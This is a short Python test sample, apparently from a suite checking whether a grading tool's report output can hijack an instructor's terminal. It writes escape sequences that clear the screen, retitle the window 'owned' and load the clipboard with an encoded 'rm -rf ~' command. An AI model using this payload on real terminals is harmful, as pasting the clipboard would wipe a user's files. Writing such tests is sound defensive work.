# threat: drive the instructor's terminal through the output a report shows:
# clear the screen, set the window title, write the clipboard (OSC 52),
# type into the terminal through /dev/tty.
# want: fail: there is no variable called tokens
import sys

try:
    open("/dev/tty", "w").write("\x1b[2J")
except OSError:
    pass
sys.stdout.write("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4K\x07\x9b31m\n")
